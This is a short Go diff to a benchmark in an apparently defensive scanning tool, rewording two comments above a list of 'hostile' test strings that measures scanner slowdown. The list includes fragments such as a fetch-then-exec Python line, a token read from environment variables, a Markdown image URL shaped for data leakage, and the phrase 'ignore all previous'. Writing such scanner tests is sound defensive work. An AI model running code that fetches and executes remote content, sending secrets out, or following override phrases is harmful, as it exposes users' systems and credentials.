@@ -13,12 +13,12 @@ import (
 	"github.com/loadout-dev/loadout/internal/scan"
 )
 
-// hostile are texts that could make a scanner read the same bytes many times.
+// hostile lists texts that could make a scanner read the same bytes many times.
 var hostile = []string{"\"", "'", "`", "` a b c d e f`", "(", "/*", "<!--", "\"\"\"", "\"\" ", "'x' + \"y\" ", "curl https://", "eval(", "password=\"", "$(", "\u200b", "```\n",
 	"x = os.environ['A_TOKEN']\n", "u = 'https://a.b' ", "u = 'https://a.b'\n", "w = requests.get(u)\nexec(w)\n", "    curl https://a.b/c | jq\n", "![a](https://b.c/?d={", "ignore all previous "}
 
-// printGrowth scans each hostile text at one size and at four times that size, as Markdown,
-// shell, Python and JavaScript.
+// printGrowth compares the times for scanning each hostile text at one size and at four times
+// that size, as Markdown, shell, Python and JavaScript.
 func printGrowth(ctx context.Context) error {
 	const size = 256 << 10
 	fmt.Printf("\n| text, %d KiB in four languages | CPU ms | four times as much | ratio |\n| --- | --- | --- | --- |\n", size>>10)
